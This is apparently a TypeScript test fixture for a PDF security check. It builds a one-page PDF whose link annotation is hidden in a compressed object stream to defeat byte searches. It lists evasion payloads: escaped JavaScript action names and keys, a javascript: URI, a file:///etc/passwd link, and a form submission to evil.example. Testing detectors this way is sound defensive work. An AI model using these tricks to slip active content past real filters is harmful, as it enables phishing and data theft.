import { deflateSync } from "node:zlib";

/**
 * A PDF of one page with an annotation inside a compressed object stream, where a search of the file's bytes
 * does not find it.
 * @param action of the annotation, in PDF syntax
 */
export function packedPdf(action: string): Buffer<ArrayBuffer> {
  const packed = deflateSync(
    Buffer.from(`9 0 <</Type/Annot/Subtype/Link/Rect[0 0 9 9]/A${action}>>`, "latin1"),
  );
  const objects = [
    "<</Type/Catalog/Pages 2 0 R>>",
    "<</Type/Pages/Kids[3 0 R]/Count 1>>",
    "<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]/Annots[9 0 R]>>",
    `<</Type/ObjStm/N 1/First 4/Filter/FlateDecode/Length ${packed.length}>>stream\n${packed.toString("latin1")}\nendstream`,
  ];
  const numbered = objects.map((object, at) => `${at + 1} 0 obj\n${object}\nendobj\n`).join("");
  return Buffer.from(`%PDF-1.7\n${numbered}trailer\n<</Root 1 0 R>>\nstartxref\n0\n%%EOF\n`, "latin1");
}

/** Annotations with actions; each is caught by only one rule of the check. */
export const packedActions: [what: string, action: string][] = [
  ["a script whose name is escaped", "<</S/J#61vaScript/X(app.alert(1))>>"],
  ["a script under an escaped key", "<</S/Named/J#53(app.alert(1))>>"],
  ["a form that sends itself", "<</S/SubmitForm/F(https://evil.example)>>"],
  ["a link that is a script", "<</S/URI/URI(javascript:app.alert\\(1\\))>>"],
  ["a link to a file of the computer", "<</S/URI/URI(file:///etc/passwd)>>"],
];
